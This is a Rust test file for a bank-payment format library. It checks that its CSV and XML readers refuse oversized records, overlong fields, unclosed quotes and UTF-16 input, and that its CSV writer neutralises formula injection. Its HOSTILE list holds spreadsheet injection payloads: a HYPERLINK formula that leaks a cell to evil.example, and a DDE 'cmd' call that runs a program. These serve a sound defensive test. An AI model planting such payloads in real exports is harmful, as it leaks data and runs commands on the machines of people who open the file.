//! Files written to hurt (issue #9, items 12–14): CSV records and fields far larger than any bank
//! writes, an unbalanced quote, files in UTF-16, and holder names that a spreadsheet would run as
//! formulas. Each is refused or neutralised with what was wrong and where.

mod common;

use std::io::{BufReader, Read};

use common::{money, sample_bytes};
use disburse_core::Currency::{Cny, Eur};
const FIELD_CHARS_MAX: usize = 1000;
const RECORD_BYTES_MAX: u64 = 1 << 20;
use disburse_formats::{
    detect, read_csv_results, read_xml_results, write_csv_instructions, CreditTransfer,
    CreditorAccount, CsvProfile, FormatError, FormatErrorKind, ReadError, ResultRecord,
};
use encoding_rs::GBK;

const ENGLISHBANK: &str = include_str!("../profiles/englishbank.toml");
const CHINABANK: &str = include_str!("../profiles/chinabank.toml");
const HEADER: &str =
    "Payment Reference,Bank Reference,Status,Amount,Currency,Value Date,Reason Code,Reason\n";

fn profile(text: &str) -> CsvProfile {
    CsvProfile::from_toml(text).unwrap_or_else(|e| panic!("{e}"))
}

fn read_csv<R: Read>(profile: &CsvProfile, input: R) -> Vec<Result<ResultRecord, ReadError>> {
    read_csv_results(profile, BufReader::new(input)).collect()
}

/// The one fatal error that ends a read, after any good records (counted).
fn fatal(items: &[Result<ResultRecord, ReadError>]) -> (usize, FormatError) {
    let (last, before) = items.split_last().expect("at least one item");
    assert!(before.iter().all(Result::is_ok), "{}", short(&before));
    match last {
        Err(ReadError::File(e)) => (before.len(), e.clone()),
        other => panic!("expected a fatal error last, got {}", short(other)),
    }
}

/// The start of a value's debug text: a failing test must not print a 200 MB field.
fn short(value: &impl std::fmt::Debug) -> String {
    format!("{value:?}").chars().take(400).collect()
}

/// A reader of `head`, then `fill` repeated to `fill_len` bytes, then `tail`: a huge input that
/// is never held in memory by the test itself.
struct Huge {
    head: Vec<u8>,
    fill: u8,
    fill_len: u64,
    tail: Vec<u8>,
    at: u64,
}

impl Read for Huge {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let head = self.head.len() as u64;
        let total = head + self.fill_len + self.tail.len() as u64;
        let mut n = 0;
        while n < buf.len() && self.at < total {
            buf[n] = if self.at < head {
                self.head[self.at as usize]
            } else if self.at < head + self.fill_len {
                self.fill
            } else {
                self.tail[(self.at - head - self.fill_len) as usize]
            };
            n += 1;
            self.at += 1;
        }
        Ok(n)
    }
}

#[test]
fn a_record_larger_than_one_mib_is_refused_with_its_line() {
    let p = profile(ENGLISHBANK);
    // 200 MB in one quoted reason field on line 3: refused once the record passes 1 MiB, so
    // the reader stops long before it has read (or held) the whole field.
    let head = format!(
        "{HEADER}PO0000000001,EB-1,PAID,1.00,EUR,,,\nPO0000000002,EB-2,REJECTED,1.00,EUR,,AC04,\""
    );
    let huge = Huge {
        head: head.into_bytes(),
        fill: b'x',
        fill_len: 200_000_000,
        tail: b"\"\n".to_vec(),
        at: 0,
    };
    let mut counted = CountingReader {
        inner: huge,
        read: 0,
    };
    let items = read_csv(&p, &mut counted);
    let (good, e) = fatal(&items);
    assert_eq!(good, 1, "the line before is read");
    assert_eq!(e.line, 3, "{e}");
    assert!(matches!(e.kind, FormatErrorKind::TooLarge(_)), "{e:?}");
    let text = e.to_string();
    assert!(text.contains("line 3") && text.contains("1 MiB"), "{text}");
    assert!(
        counted.read < 2 * RECORD_BYTES_MAX + 64 * 1024,
        "read {} bytes of a 200 MB file",
        counted.read
    );

    // The same without quotes: one 2 MiB unquoted line.
    let mut bytes = HEADER.as_bytes().to_vec();
    bytes.extend(std::iter::repeat_n(b'y', 2 << 20));
    bytes.push(b'\n');
    let (_, e) = fatal(&read_csv(&p, bytes.as_slice()));
    assert_eq!(e.line, 2, "{e}");
    assert!(matches!(e.kind, FormatErrorKind::TooLarge(_)), "{e:?}");

    // Just under the bound is still read (as one bad line, not a refused file).
    let mut bytes = HEADER.as_bytes().to_vec();
    bytes.extend(b"PO0000000001,EB-1,PAID,1.00,EUR,,,");
    bytes.extend(std::iter::repeat_n(b'z', (RECORD_BYTES_MAX as usize) - 100));
    bytes.push(b'\n');
    let items = read_csv(&p, bytes.as_slice());
    assert_eq!(items.len(), 1);
    assert!(
        !matches!(items[0], Err(ReadError::File(_))),
        "{}",
        short(&items[0])
    );
}

struct CountingReader<R> {
    inner: R,
    read: u64,
}

impl<R: Read> Read for &mut CountingReader<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.read += n as u64;
        Ok(n)
    }
}

#[test]
fn a_field_longer_than_a_thousand_characters_fails_its_line() {
    let p = profile(ENGLISHBANK);
    let long = "é".repeat(FIELD_CHARS_MAX + 1);
    let ok = "é".repeat(FIELD_CHARS_MAX);
    let text = format!(
        "{HEADER}PO0000000001,EB-1,REJECTED,1.00,EUR,,AC04,\"{long}\"\nPO0000000002,EB-2,REJECTED,1.00,EUR,,AC04,{ok}\n"
    );
    let items = read_csv(&p, text.as_bytes());
    assert_eq!(items.len(), 2, "{}", short(&items));
    match &items[0] {
        Err(ReadError::Line(e)) => {
            assert_eq!((e.line, e.field.as_str()), (2, "reason_text"), "{e}");
            assert!(e.message.contains("1000 characters"), "{e}");
            assert!(!e.message.contains("ééé"), "the value is not repeated: {e}");
        }
        other => panic!("{}", short(other)),
    }
    match &items[1] {
        Ok(ResultRecord::Transaction(l)) => {
            assert_eq!(
                l.reason_text.as_deref().map(|t| t.chars().count()),
                Some(FIELD_CHARS_MAX)
            )
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn an_unbalanced_quote_is_named_with_the_line_it_opened_on() {
    let p = profile(ENGLISHBANK);
    // Line 3's reason opens a quote that is never closed: without the check, lines 4 and 5 would
    // be swallowed into it and the file reported as "status is empty" or worse.
    let text = format!(
        "{HEADER}PO0000000001,EB-1,PAID,1.00,EUR,,,\n\
         PO0000000002,EB-2,REJECTED,1.00,EUR,,AC04,\"Account closed\n\
         PO0000000003,EB-3,PAID,2.00,EUR,,,\n\
         PO0000000004,EB-4,PAID,3.00,EUR,,,\n"
    );
    let items = read_csv(&p, text.as_bytes());
    let (good, e) = fatal(&items);
    assert_eq!(good, 1, "{items:?}");
    assert_eq!(e.line, 3, "{e}");
    let message = e.to_string();
    assert!(
        message.contains("quoted field opened on line 3") && message.contains("never closed"),
        "{message}"
    );
    // A quote inside an unquoted field is text, as the csv crate reads it, not an open quote.
    let text = format!("{HEADER}PO0000000001,EB-1,PAID,1.00,EUR,,,5\" screen\nPO0000000002,EB-2,PAID,1.00,EUR,,,\n");
    let items = read_csv(&p, text.as_bytes());
    assert_eq!(items.len(), 2);
    assert!(items.iter().all(Result::is_ok), "{items:?}");
    // Balanced quotes with escaped quotes and line breaks inside are fine.
    let text = format!("{HEADER}PO0000000001,EB-1,REJECTED,1.00,EUR,,AC04,\"said \"\"no\"\"\nsecond line\"\nPO0000000002,EB-2,PAID,1.00,EUR,,,\n");
    let items = read_csv(&p, text.as_bytes());
    assert_eq!(items.len(), 2);
    assert!(items.iter().all(Result::is_ok), "{items:?}");
    // In GBK too (the quote check runs on the decoded text).
    let cb = profile(CHINABANK);
    let text = "交易流水号,付款编号,金额,状态,失败原因,日期\r\nCB1,PO0000000101,1.00,失败,\"户名\r\nCB2,PO0000000102,1.00,成功,,\r\n";
    let items = read_csv(&cb, GBK.encode(text).0.as_ref());
    let (good, e) = fatal(&items);
    assert_eq!((good, e.line), (0, 2), "{e}");
}

fn utf16(text: &str, big_endian: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend(if big_endian {
            [0xFE, 0xFF]
        } else {
            [0xFF, 0xFE]
        });
    }
    for unit in text.encode_utf16() {
        out.extend(if big_endian {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        });
    }
    out
}

#[test]
fn utf16_files_are_named_as_utf16_not_as_not_xml() {
    let xml = String::from_utf8(sample_bytes("pain002-v10-de-vop-name-mismatch-RVNM.xml")).unwrap();
    for (big_endian, bom) in [(false, true), (true, true), (false, false), (true, false)] {
        let bytes = utf16(&xml, big_endian, bom);
        let e = detect(&bytes[..bytes.len().min(8192)]).expect_err("refused at detection");
        let what = e.to_string();
        assert!(matches!(e.kind, FormatErrorKind::Encoding(_)), "{what}");
        assert!(
            what.contains("UTF-16") && !what.contains("not XML"),
            "{what}"
        );
        // The readers themselves refuse it the same way.
        let items: Vec<_> = read_xml_results(BufReader::new(bytes.as_slice())).collect();
        let (good, e) = fatal(&items);
        assert_eq!(good, 0);
        assert!(e.to_string().contains("UTF-16"), "{e}");
    }
    let csv = utf16(
        &format!("{HEADER}PO0000000001,EB-1,PAID,1.00,EUR,,,\n"),
        false,
        true,
    );
    let items = read_csv(&profile(ENGLISHBANK), csv.as_slice());
    let (good, e) = fatal(&items);
    assert_eq!((good, e.line), (0, 1));
    assert!(e.to_string().contains("UTF-16"), "{e}");
    // UTF-8 with its byte order mark is still read.
    let mut with_bom = b"\xEF\xBB\xBF".to_vec();
    with_bom.extend(xml.as_bytes());
    assert!(detect(&with_bom).is_ok());
}

fn transfer(
    n: usize,
    name: &str,
    remittance: &str,
    currency: disburse_core::Currency,
) -> CreditTransfer {
    CreditTransfer {
        end_to_end_id: format!("PO{:010}", 101 + n),
        amount: money("12.50", currency),
        creditor_name: name.into(),
        creditor_account: CreditorAccount::Other {
            id: "6222020200112233445".into(),
            bank_code: "102290000018".into(),
        },
        creditor_bic: None,
        creditor_country: "CN".into(),
        remittance_info: remittance.into(),
    }
}

const HOSTILE: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\tTAB=1",
    "\rCR=1",
];

#[test]
fn cells_that_would_run_as_formulas_are_neutralised_in_every_profile() {
    for (profile_text, currency) in [(ENGLISHBANK, Eur), (CHINABANK, Cny)] {
        let p = profile(profile_text);
        let transfers: Vec<CreditTransfer> = HOSTILE
            .iter()
            .enumerate()
            .map(|(n, name)| transfer(n, name, name, currency))
            .collect();
        let mut out = Vec::new();
        write_csv_instructions(&p, &transfers, &mut out).unwrap();
        let text = match p.encoding() {
            disburse_formats::bank_csv::CsvEncoding::Utf8 => String::from_utf8(out).unwrap(),
            disburse_formats::bank_csv::CsvEncoding::Gbk => GBK.decode(&out).0.into_owned(),
        };
        // Read the cells back as a spreadsheet would see them.
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(text.as_bytes());
        let mut seen = 0;
        for (record, hostile) in reader.records().zip(HOSTILE) {
            let record = record.unwrap();
            for cell in record.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: a cell starts a formula: {cell:?}",
                    p.name()
                );
            }
            assert!(
                record.iter().any(|c| c == format!("'{hostile}")),
                "{}: the name is kept, behind an apostrophe: {record:?}",
                p.name()
            );
            seen += 1;
        }
        assert_eq!(seen, HOSTILE.len());
        // Ordinary values are untouched: amounts, references, accounts, names.
        let mut out = Vec::new();
        write_csv_instructions(
            &p,
            &[transfer(0, "Acme GmbH", "Payout 1", currency)],
            &mut out,
        )
        .unwrap();
        let text = match p.encoding() {
            disburse_formats::bank_csv::CsvEncoding::Utf8 => String::from_utf8(out).unwrap(),
            disburse_formats::bank_csv::CsvEncoding::Gbk => GBK.decode(&out).0.into_owned(),
        };
        assert!(!text.contains('\''), "{text}");
        assert!(
            text.contains("PO0000000101,Acme GmbH,6222020200112233445,102290000018"),
            "{text}"
        );
        assert!(text.contains(",12.50"), "{text}");
    }
}
